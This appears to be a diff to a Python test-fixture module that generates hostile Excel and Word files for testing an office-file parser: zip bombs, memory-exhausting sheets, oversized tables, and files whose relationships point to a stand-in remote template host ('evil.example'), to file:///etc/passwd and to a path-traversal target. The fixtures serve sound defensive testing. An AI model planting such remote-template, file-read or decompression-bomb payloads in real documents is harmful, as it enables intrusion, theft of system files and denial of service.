@@ -20,6 +20,8 @@ import docx
 import openpyxl
 import xlwt
 
+from inspections.files.word import _MAX_CELLS
+
 EVIL = "http://evil.example"
 ROWS = (("检查对象名称", "统一社会信用代码", "风险等级"), ("阳城某某矿业有限公司", "91140522MA0GTXXX1X", "A"))
 LAUGHS = (
@@ -88,18 +90,23 @@ def with_parts(content: bytes, parts: Mapping[str, bytes | str]) -> bytes:
     return out.getvalue()
 
 
+def _put_before(content: bytes, name: str, more: str, tag: str) -> bytes:
+    """An office file with `more` in one of its parts, before every closing `tag`."""
+    with zipfile.ZipFile(io.BytesIO(content)) as archive:
+        part = archive.read(name).decode()
+    return with_parts(content, {name: part.replace(tag, more + tag)})
+
+
 # ------------------------------------------------------------------------------------------------------------- bombs
 
 
 @cache
 def zip_bomb(name: str = "xl/worksheets/sheet1.xml", megabytes: int = 600, base: str = "xlsx") -> bytes:
     """A workbook or Word file of a few hundred kilobytes, one member of which unpacks to `megabytes` of blanks."""
-    out = io.BytesIO(honest_xlsx() if base == "xlsx" else honest_docx())
-    kept = with_parts(out.getvalue(), {})
     out = io.BytesIO()
     blanks = b" " * 1_000_000
     with (
-        zipfile.ZipFile(io.BytesIO(kept)) as before,
+        zipfile.ZipFile(io.BytesIO(honest_xlsx() if base == "xlsx" else honest_docx())) as before,
         zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as after,
     ):
         for info in before.infolist():
@@ -248,11 +255,11 @@ def deep_docx(depth: int = 5_000) -> bytes:
 # ------------------------------------------------------------------------------------------------------------- sheets
 
 
-def far_corner() -> bytes:
-    """A sheet of two cells, the first and the very last: a reader that fills in what lies between fills memory."""
+def far_corner(cell: str = "XFD1048576") -> bytes:
+    """A sheet of two cells, the first and a far one: a reader that fills in what lies between fills memory."""
     book = openpyxl.Workbook()
     book.active["A1"] = "检查对象名称"
-    book.active["XFD1048576"] = "角"
+    book.active[cell] = "角"
     return _saved(book.save)
 
 
@@ -265,11 +272,19 @@ def many_columns(count: int = 16_000) -> bytes:
 
 def merged_sheet() -> bytes:
     """One merged area over all that a sheet can hold."""
-    name = "xl/worksheets/sheet1.xml"
-    with zipfile.ZipFile(io.BytesIO(honest_xlsx())) as archive:
-        sheet = archive.read(name).decode()
     area = '<mergeCells count="1"><mergeCell ref="A2:XFD1048576"/></mergeCells>'
-    return with_parts(honest_xlsx(), {name: sheet.replace("</sheetData>", "</sheetData>" + area)})
+    return _put_before(honest_xlsx(), "xl/worksheets/sheet1.xml", area, "</worksheet>")
+
+
+def repeated_cell(count: int = 400_000) -> bytes:
+    """A sheet that compresses well: the same cell again and again."""
+    rows = "<row><c><v>1</v></c></row>" * count
+    return _put_before(honest_xlsx(), "xl/worksheets/sheet1.xml", rows, "</sheetData>")
+
+
+def many_cells(count: int = _MAX_CELLS + 1) -> bytes:
+    """Two rows of a Word table, of more cells than are read."""
+    return _put_before(honest_docx(), "word/document.xml", "<w:tc><w:p/></w:tc>" * count, "</w:tr>")
 
 
 def formulas() -> bytes:
@@ -297,17 +312,15 @@ def broken_references() -> bytes:
 
 def external_relations(base: str) -> bytes:
     """A file whose relationships point outside: to another host and to a file of this one."""
-    name = "xl/_rels/workbook.xml.rels" if base == "xlsx" else "word/_rels/document.xml.rels"
-    content = honest_xlsx() if base == "xlsx" else honest_docx()
-    with zipfile.ZipFile(io.BytesIO(content)) as archive:
-        rels = archive.read(name).decode()
     kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
     more = (
         f'<Relationship Id="rIdx1" Type="{kind}/attachedTemplate" Target="{EVIL}/t.dotm" TargetMode="External"/>'
         f'<Relationship Id="rIdx2" Type="{kind}/image" Target="file:///etc/passwd" TargetMode="External"/>'
         f'<Relationship Id="rIdx3" Type="{kind}/worksheet" Target="../../../../etc/passwd"/>'
     )
-    return with_parts(content, {name: rels.replace("</Relationships>", more + "</Relationships>")})
+    if base == "xlsx":
+        return _put_before(honest_xlsx(), "xl/_rels/workbook.xml.rels", more, "</Relationships>")
+    return _put_before(honest_docx(), "word/_rels/document.xml.rels", more, "</Relationships>")
 
 
 # ---------------------------------------------------------------------------------------------------- names in zips
@@ -400,6 +413,9 @@ FILES: dict[str, Callable[[], bytes]] = {
     "deep.xls": deep_html,
     "deep.docx": deep_docx,
     "far_corner.xlsx": far_corner,
+    "far_row.xlsx": partial(far_corner, "AD1048576"),
+    "repeated_cell.xlsx": repeated_cell,
+    "many_cells.docx": many_cells,
     "many_columns.xlsx": many_columns,
     "merged.xlsx": merged_sheet,
     "formulas.xlsx": formulas,
